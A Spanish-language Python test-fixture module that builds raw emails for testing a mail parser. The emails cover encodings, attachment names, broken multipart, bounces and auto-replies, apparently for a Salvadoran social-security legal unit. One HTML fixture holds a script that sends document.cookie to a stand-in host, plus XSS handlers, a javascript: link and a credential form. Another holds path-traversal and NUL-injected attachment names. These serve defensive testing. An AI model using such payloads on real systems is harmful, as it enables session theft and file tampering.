"""Corpus de correos difíciles, construidos en código como bytes crudos (líneas CRLF).

Cada función devuelve el mensaje tal como llegaría por IMAP o a la carpeta de entrada. Los casos
fijos son deterministas (Message-ID, fecha y delimitadores fijos) y están en `TODOS`; `mensaje`
arma cualquier otro correo para las pruebas de otros módulos.
"""

from __future__ import annotations

import base64
import email
import hashlib
from collections.abc import Mapping, Sequence
from datetime import datetime, timedelta, timezone
from email import policy
from email.headerregistry import Address
from email.message import EmailMessage
from email.utils import format_datetime, make_msgid

ZONA_SV = timezone(timedelta(hours=-6))
FECHA = datetime(2026, 11, 16, 9, 30, tzinfo=ZONA_SV)
PATRONO = ("Panadería Ñandú & Hijos, S.A. de C.V.", "ventas@nandu.com.sv")
JURIDICA = ("Unidad Jurídica", "juridica@isss.gob.sv")
TEXTO_PDF = "Resolución Nº 12 — Panadería Ñandú & Hijos, S.A. de C.V.\nMonto adeudado: $1,234.50"

ASUNTO_PLANO = 'Solicitud de prórroga «urgente» & <convenio> "n.º 45"'
CUERPO_PLANO = (
    "Estimados señores de la Unidad Jurídica:\n\n"
    "Solicitamos prórroga del convenio de pago n.º 45 & sus cuotas <pendientes>.\n"
    'El "monto" adeudado es $1,234.50.\n\n'
    "Atentamente,\nMaría José Ñúñez\n"
)
ASUNTO_PLANTILLA = "Re: {{ patrono.razon_social }} {% if mora %}en mora{% endif %}"
CUERPO_PLANTILLA = (
    "Estimados {{ patrono.razon_social }}:\n"
    "{% for cuota in cuotas %}- {{ cuota.monto }}\n{% endfor %}\n"
    "{# no es una plantilla: es lo que el patrono escribió #}\n"
)

Direccion = str | tuple[str, str]


def _direccion(valor: Direccion) -> str | Address:
    """Una dirección como texto («Nombre <x@y>») o como par (nombre, correo) sin comillas."""
    return valor if isinstance(valor, str) else Address(valor[0], addr_spec=valor[1])


def mensaje(
    *,
    asunto: str = "Solicitud de constancia de solvencia",
    cuerpo: str | None = "Estimados señores:\nSolicitamos constancia de solvencia.\n",
    remitente: Direccion = PATRONO,
    destinatarios: Sequence[Direccion] = (JURIDICA,),
    message_id: str | None = None,
    omitir_message_id: bool = False,
    in_reply_to: str | None = None,
    referencias: Sequence[str] = (),
    fecha: datetime = FECHA,
    html: str | None = None,
    adjuntos: Sequence[tuple[str, str, bytes]] = (),
    cabeceras: Mapping[str, str] | None = None,
) -> bytes:
    """Un correo bien formado; sin `message_id` se inventa uno nuevo en cada llamada."""
    msg = EmailMessage()
    msg["From"] = _direccion(remitente)
    msg["To"] = [_direccion(d) for d in destinatarios]
    msg["Subject"] = asunto
    msg["Date"] = format_datetime(fecha)
    if not omitir_message_id:
        msg["Message-ID"] = _entre_angulos(message_id or make_msgid(domain="nandu.com.sv"))
    if in_reply_to:
        msg["In-Reply-To"] = _entre_angulos(in_reply_to)
    if referencias:
        msg["References"] = " ".join(_entre_angulos(r) for r in referencias)
    for nombre, valor in (cabeceras or {}).items():
        msg[nombre] = valor
    if cuerpo is not None:
        msg.set_content(cuerpo)
        if html is not None:
            msg.add_alternative(html, subtype="html")
    elif html is not None:
        msg.set_content(html, subtype="html")
    for nombre, tipo, datos in adjuntos:
        principal, _, secundario = tipo.partition("/")
        msg.add_attachment(datos, maintype=principal, subtype=secundario, filename=nombre)
    return _bytes(msg)


def _entre_angulos(identificador: str) -> str:
    """`<id>` aunque venga sin ángulos."""
    return identificador if identificador.startswith("<") else f"<{identificador}>"


def _bytes(msg: EmailMessage) -> bytes:
    """Los bytes del mensaje con CRLF y delimitadores fijos (el mismo caso, los mismos bytes)."""
    for numero, parte in enumerate(p for p in msg.walk() if p.is_multipart()):
        if parte.get_content_maintype() == "multipart":
            parte.set_boundary(f"----=_Parte_{numero}_Recupera_7c1f")
    return msg.as_bytes(policy=policy.SMTP)


def _crudo(texto: str) -> bytes:
    """Un mensaje escrito a mano: LF → CRLF, y UTF-8 para los bytes de 8 bits."""
    return texto.replace("\n", "\r\n").encode("utf-8")


def pdf_minimo(texto: str) -> bytes:
    """Un PDF de una página con `texto` en Helvetica (WinAnsi: conserva tildes y ñ)."""
    lineas = texto.split("\n")
    tamano = min(12.0, 540 / (0.55 * max(1, *(len(linea) for linea in lineas))))
    operaciones = [b"BT", b"/F1 %.1f Tf" % tamano, b"%.1f TL" % (tamano * 1.4), b"72 720 Td"]
    for numero, linea in enumerate(lineas):
        crudo = linea.encode("cp1252", errors="replace")
        escapado = crudo.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
        operaciones.append((b"T* " if numero else b"") + b"(" + escapado + b") Tj")
    operaciones.append(b"ET")
    contenido = b"\n".join(operaciones)
    objetos = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792]"
        b" /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(contenido), contenido),
    ]
    salida = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    posiciones = []
    for numero, objeto in enumerate(objetos, start=1):
        posiciones.append(len(salida))
        salida += b"%d 0 obj\n%s\nendobj\n" % (numero, objeto)
    inicio_xref = len(salida)
    salida += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objetos) + 1)
    salida += b"".join(b"%010d 00000 n \n" % p for p in posiciones)
    salida += b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objetos) + 1)
    salida += b"startxref\n%d\n%%%%EOF\n" % inicio_xref
    return bytes(salida)


def plano_utf8() -> bytes:
    """Texto plano UTF-8 con acentos, `&`, `<>` y comillas en asunto y cuerpo."""
    return mensaje(asunto=ASUNTO_PLANO, cuerpo=CUERPO_PLANO, message_id="plano-utf8@nandu.com.sv")


def asunto_codificado() -> bytes:
    """Asunto y nombres con palabras codificadas RFC 2047 (UTF-8 en B, ISO-8859-1 en Q)."""
    return _crudo(
        "From: =?UTF-8?Q?Unidad_Jur=C3=ADdica?= <juridica@isss.gob.sv>\n"
        "To: =?ISO-8859-1?Q?Panader=EDa_=D1and=FA_=26_Hijos=2C_S=2EA=2E_de_C=2EV=2E?=\n"
        " <ventas@nandu.com.sv>\n"
        "Subject: =?UTF-8?B?Tm90aWZpY2FjacOzbiBkZSBtb3JhOiA=?=\n"
        " =?ISO-8859-1?Q?cotizaci=F3n_de_marzo?= & recargos <2026>\n"
        "Date: Mon, 16 Nov 2026 09:30:00 -0600\n"
        "Message-ID: <asunto-codificado@isss.gob.sv>\n"
        "MIME-Version: 1.0\n"
        "Content-Type: text/plain; charset=us-ascii\n\n"
        "Se adjunta el detalle de la mora.\n"
    )


def latin1_cuerpo() -> bytes:
    """Cuerpo en ISO-8859-1 con quoted-printable y un salto suave."""
    return _crudo(
        "From: Contabilidad <contabilidad@nandu.com.sv>\n"
        "To: juridica@isss.gob.sv\n"
        "Subject: =?ISO-8859-1?Q?Planilla_de_cotizaci=F3n?=\n"
        "Date: Mon, 16 Nov 2026 10:05:00 -0600\n"
        "Message-ID: <latin1-cuerpo@nandu.com.sv>\n"
        "MIME-Version: 1.0\n"
        'Content-Type: text/plain; charset="iso-8859-1"\n'
        "Content-Transfer-Encoding: quoted-printable\n\n"
        "Se=F1ores del Departamento de Recuperaci=F3n:\n\n"
        "Adjuntamos la planilla de cotizaciones del a=F1o 2025; el pago se efectuar=\n"
        "=E1 el pr=F3ximo lunes. =ABGracias=BB & saludos.\n"
    )


HTML_CON_SCRIPT = """<html><head><title>Aviso</title><style>p { color: red; }</style>
<script>document.location='http://malo.example/robar?c='+document.cookie</script></head>
<body onload="alert('x')">
<p>Estimados se&ntilde;ores &amp; se&ntilde;oras:</p>
<p>Adjuntamos el comprobante <b>N.&ordm; 45</b> &lt;pagado&gt;.<br>Gracias.</p>
<img src="http://rastreo.example/pixel.gif" onerror="alert(2)" alt="pixel">
<img src="cid:logo@nandu.com.sv" alt="logo">
<p><a href="javascript:alert(3)">Ver estado de cuenta</a>
<a href="https://www.isss.gob.sv/" target="_blank">Portal del ISSS</a></p>
<iframe src="http://malo.example/"></iframe>
<form action="http://malo.example/"><input name="clave"></form>
</body></html>
"""


def html_con_script() -> bytes:
    """Solo HTML, con script, manejadores, imagen remota y enlace `javascript:`."""
    return _crudo(
        "From: Panaderia Nandu <ventas@nandu.com.sv>\n"
        "To: juridica@isss.gob.sv\n"
        "Subject: Comprobante de pago\n"
        "Date: Mon, 16 Nov 2026 11:00:00 -0600\n"
        "Message-ID: <html-con-script@nandu.com.sv>\n"
        "MIME-Version: 1.0\n"
        'Content-Type: text/html; charset="utf-8"\n'
        "Content-Transfer-Encoding: 8bit\n\n" + HTML_CON_SCRIPT
    )


def multipart_a_mano(cabeceras: str, limite: str, partes: Sequence[str]) -> bytes:
    """Un multipart/mixed escrito a mano: cabeceras, delimitador y partes (cabeceras y cuerpo)."""
    cuerpo = "".join(f"--{limite}\n{parte}\n" for parte in partes)
    tipo = f'Content-Type: multipart/mixed; boundary="{limite}"\n'
    return _crudo(f"{cabeceras}MIME-Version: 1.0\n{tipo}\n{cuerpo}--{limite}--\n")


def _cabeceras(asunto: str, message_id: str) -> str:
    """Cabeceras comunes de un caso escrito a mano."""
    return (
        "From: Panaderia Nandu <ventas@nandu.com.sv>\nTo: juridica@isss.gob.sv\n"
        f"Subject: {asunto}\nDate: Mon, 16 Nov 2026 11:30:00 -0600\nMessage-ID: <{message_id}>\n"
    )


_TEXTO_SIMPLE = "Content-Type: text/plain; charset=utf-8\n\nSe adjuntan los documentos.\n"


def _adjunto_pdf(disposicion: str) -> str:
    """Una parte PDF con la disposición dada (donde va el nombre)."""
    datos = base64.encodebytes(pdf_minimo("Documento")).decode("ascii")
    return (
        "Content-Type: application/pdf\n"
        f"Content-Disposition: {disposicion}\n"
        f"Content-Transfer-Encoding: base64\n\n{datos}"
    )


def adjunto_rfc2231() -> bytes:
    """Nombres de adjunto en RFC 2231 (con y sin continuaciones) y en RFC 2047."""
    return multipart_a_mano(
        _cabeceras("Resoluciones", "adjunto-rfc2231@nandu.com.sv"),
        "limite-2231",
        [
            _TEXTO_SIMPLE,
            _adjunto_pdf("attachment; filename*=UTF-8''Resoluci%C3%B3n%20N%C2%BA%2012.pdf"),
            _adjunto_pdf('attachment; filename="=?UTF-8?Q?Acta_de_notificaci=C3=B3n.pdf?="'),
            _adjunto_pdf(
                "attachment;\n filename*0*=UTF-8''Constancia%20de%20pago%20;\n"
                " filename*1*=marzo%20%26%20abril.pdf"
            ),
            _adjunto_pdf("attachment; filename*=ISO-8859-1''Planilla%20a%F1o%202025.pdf"),
        ],
    )


def adjunto_nombre_hostil() -> bytes:
    """Nombres que serían peligrosos como ruta, con NUL y saltos, y uno de 300 caracteres."""
    return multipart_a_mano(
        _cabeceras("Documentos varios", "adjunto-hostil@nandu.com.sv"),
        "limite-hostil",
        [
            _TEXTO_SIMPLE,
            _adjunto_pdf('attachment; filename="../../x"'),
            _adjunto_pdf('attachment; filename="..\\\\..\\\\boot.ini"'),
            _adjunto_pdf("attachment; filename*=UTF-8''malo%00%0Anombre%0D%09.txt"),
            _adjunto_pdf('attachment; filename="/etc/passwd"'),
            _adjunto_pdf(f'attachment; filename="{"a" * 300}.pdf"'),
        ],
    )


def reenviado_anidado() -> bytes:
    """Un reenvío de un reenvío: el PDF está dos message/rfc822 adentro; afuera, un CSV."""
    original = mensaje(
        asunto="Resolución Nº 12 — Panadería Ñandú & Hijos",
        cuerpo="Se notifica la resolución adjunta.\n",
        remitente=JURIDICA,
        destinatarios=[PATRONO],
        message_id="resolucion-12@isss.gob.sv",
        adjuntos=[("Resolución Nº 12.pdf", "application/pdf", pdf_minimo(TEXTO_PDF))],
    )
    medio = _con_reenviado(
        mensaje(
            asunto="RV: Resolución Nº 12",
            cuerpo="Te reenvío la resolución, revisa el plazo.\n",
            remitente=("Licda. Marta Núñez", "mnunez@nandu.com.sv"),
            message_id="reenvio-1@nandu.com.sv",
        ),
        original,
    )
    afuera = mensaje(
        asunto="RV: RV: Resolución Nº 12 «urgente»",
        cuerpo="Les reenvío la cadena completa.\n",
        message_id="reenvio-2@nandu.com.sv",
        adjuntos=[("Planilla marzo 2026.csv", "text/csv", b"afiliado;monto\n1001;25.50\n")],
    )
    return _con_reenviado(afuera, medio)


def _con_reenviado(exterior: bytes, interior: bytes) -> bytes:
    """Agrega `interior` como adjunto message/rfc822 de `exterior`."""
    msg = email.message_from_bytes(exterior, policy=policy.default)
    assert isinstance(msg, EmailMessage)
    msg.add_attachment(email.message_from_bytes(interior, policy=policy.default))
    return _bytes(msg)


_TEXTO_ROTO = (
    "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n"
    "Adjunto el comprobante de pago de la planilla de octubre.\n"
)


def multipart_roto() -> bytes:
    """Un multipart cuyo delimitador de cierre nunca llega (mensaje cortado)."""
    partes = [
        _TEXTO_ROTO,
        'Content-Type: application/pdf\nContent-Disposition: attachment; filename="pago.pdf"\n'
        "Content-Transfer-Encoding: base64\n\nJVBERi0xLjQK\n",
    ]
    completo = multipart_a_mano(
        _cabeceras("Pago de octubre", "roto@nandu.com.sv"), "limite-roto", partes
    )
    return completo.removesuffix(b"--limite-roto--\r\n")


def multipart_sin_inicio() -> bytes:
    """Un multipart cuyo delimitador no aparece nunca: el cuerpo es texto suelto."""
    return _crudo(
        _cabeceras("Pago de noviembre", "sin-inicio@nandu.com.sv")
        + 'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="nunca-aparece"\n\n'
        "Adjunto el comprobante de pago de noviembre.\n"
    )


def charset_desconocido() -> bytes:
    """Cuerpo en UTF-8 que declara un juego de caracteres que nadie conoce."""
    return _crudo(
        "From: Panaderia Nandu <ventas@nandu.com.sv>\nTo: juridica@isss.gob.sv\n"
        "Subject: =?x-desconocido?Q?Constancia_de_pago?=\n"
        "Date: Mon, 16 Nov 2026 12:00:00 -0600\nMessage-ID: <charset@nandu.com.sv>\n"
        'MIME-Version: 1.0\nContent-Type: text/plain; charset="x-desconocido"\n'
        "Content-Transfer-Encoding: 8bit\n\n"
        "Señores: adjuntamos la constancia de pago «n.º 45» & anexos.\n"
    )


def base64_invalido() -> bytes:
    """Cuerpo en base64 sin relleno y un adjunto con caracteres fuera del alfabeto."""
    texto = base64.b64encode("Estimados señores: adjunto la planilla.".encode()).rstrip(b"=")
    partes = [
        "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
        + texto.decode("ascii")
        + "\n",
        'Content-Type: application/pdf\nContent-Disposition: attachment; filename="planilla.pdf"\n'
        "Content-Transfer-Encoding: base64\n\nJVBERi0x!!!LjQK\n",
    ]
    return multipart_a_mano(_cabeceras("Planilla", "base64@nandu.com.sv"), "limite-b64", partes)


def sin_message_id() -> bytes:
    """Un correo normal sin Message-ID."""
    return mensaje(asunto="Consulta sin identificador", omitir_message_id=True)


def mismo_message_id_a() -> bytes:
    """Primer contenido con un Message-ID que se repite."""
    return mensaje(
        asunto="Pago de cuota 1 de 12", cuerpo="Cuota 1 pagada.\n", message_id="repetido@nandu"
    )


def mismo_message_id_b() -> bytes:
    """Otro contenido con el mismo Message-ID que `mismo_message_id_a`."""
    return mensaje(
        asunto="Pago de cuota 2 de 12", cuerpo="Cuota 2 pagada.\n", message_id="repetido@nandu"
    )


def rebote_dsn() -> bytes:
    """Un rebote multipart/report (RFC 3464) de MAILER-DAEMON con Return-Path nulo."""
    limite = "8F2A1.1763307062/mx.isss.gob.sv"
    estado = (
        "Reporting-MTA: dns; mx.isss.gob.sv\n\n"
        "Final-Recipient: rfc822; ventas@nandu-viejo.com.sv\nAction: failed\nStatus: 5.1.1\n"
        "Diagnostic-Code: smtp; 550 5.1.1 Recipient address rejected\n"
    )
    original = (
        "From: =?UTF-8?Q?Unidad_Jur=C3=ADdica?= <juridica@isss.gob.sv>\n"
        "To: ventas@nandu-viejo.com.sv\nSubject: Requerimiento de pago\n"
        "Message-ID: <requerimiento-45@isss.gob.sv>\n\nSe requiere el pago de la mora.\n"
    )
    return _crudo(
        "Return-Path: <>\n"
        "From: Mail Delivery System <MAILER-DAEMON@mx.isss.gob.sv>\n"
        "To: juridica@isss.gob.sv\nSubject: Undelivered Mail Returned to Sender\n"
        "Date: Mon, 16 Nov 2026 09:31:02 -0600 (CST)\n"
        "Message-ID: <20261116153102.8F2A1@mx.isss.gob.sv>\nMIME-Version: 1.0\n"
        "Content-Type: multipart/report; report-type=delivery-status;\n"
        f' boundary="{limite}"\n\nThis is a MIME-encapsulated message.\n\n'
        f"--{limite}\nContent-Type: text/plain; charset=utf-8\n\n"
        "No se pudo entregar su mensaje a ventas@nandu-viejo.com.sv: el buzón no existe.\n\n"
        f"--{limite}\nContent-Type: message/delivery-status\n\n{estado}\n"
        f"--{limite}\nContent-Type: message/rfc822\n\n{original}\n"
        f"--{limite}--\n"
    )


def respuesta_automatica() -> bytes:
    """Una respuesta de «fuera de la oficina» (Auto-Submitted: auto-replied)."""
    return mensaje(
        asunto="Respuesta automática: Fuera de la oficina",
        cuerpo="Estaré fuera de la oficina hasta el 23 de noviembre.\n",
        remitente=("Licda. Marta Núñez", "mnunez@nandu.com.sv"),
        message_id="fuera-de-oficina@nandu.com.sv",
        in_reply_to="requerimiento-45@isss.gob.sv",
        cabeceras={"Auto-Submitted": "auto-replied", "X-Auto-Response-Suppress": "All"},
    )


def outlook_con_supresion() -> bytes:
    """Un correo escrito por una persona en Outlook: trae X-Auto-Response-Suppress y no es automático."""
    return mensaje(
        asunto="Consulta sobre el convenio",
        message_id="outlook@nandu.com.sv",
        cabeceras={"X-Auto-Response-Suppress": "All", "X-MS-Has-Attach": "no"},
    )


def con_codigo_de_plantilla() -> bytes:
    """Asunto y cuerpo con `{{ … }}` y `{% … %}`: son datos, nunca se interpretan."""
    return mensaje(
        asunto=ASUNTO_PLANTILLA, cuerpo=CUERPO_PLANTILLA, message_id="plantilla@nandu.com.sv"
    )


def adjunto_grande(tamano: int) -> bytes:
    """Un correo con un adjunto binario de `tamano` bytes (mismo tamaño, mismos bytes)."""
    datos = (bytes(range(256)) * (tamano // 256 + 1))[:tamano]
    return mensaje(
        asunto=f"Respaldo de {tamano} bytes",
        message_id=f"grande-{tamano}@nandu.com.sv",
        adjuntos=[("respaldo.bin", "application/octet-stream", datos)],
    )


def con_pdf(texto: str) -> bytes:
    """Un correo con un PDF pequeño y válido cuyo texto extraíble es `texto`."""
    return mensaje(
        asunto="Envío de resolución",
        message_id=f"pdf-{hashlib.sha256(texto.encode()).hexdigest()[:16]}@nandu.com.sv",
        adjuntos=[("Resolución Nº 12.pdf", "application/pdf", pdf_minimo(texto))],
    )


TODOS: dict[str, bytes] = {
    "plano_utf8": plano_utf8(),
    "asunto_codificado": asunto_codificado(),
    "latin1_cuerpo": latin1_cuerpo(),
    "html_con_script": html_con_script(),
    "adjunto_rfc2231": adjunto_rfc2231(),
    "adjunto_nombre_hostil": adjunto_nombre_hostil(),
    "reenviado_anidado": reenviado_anidado(),
    "multipart_roto": multipart_roto(),
    "multipart_sin_inicio": multipart_sin_inicio(),
    "charset_desconocido": charset_desconocido(),
    "base64_invalido": base64_invalido(),
    "sin_message_id": sin_message_id(),
    "mismo_message_id_a": mismo_message_id_a(),
    "mismo_message_id_b": mismo_message_id_b(),
    "rebote_dsn": rebote_dsn(),
    "respuesta_automatica": respuesta_automatica(),
    "outlook_con_supresion": outlook_con_supresion(),
    "con_codigo_de_plantilla": con_codigo_de_plantilla(),
    "con_pdf": con_pdf(TEXTO_PDF),
}
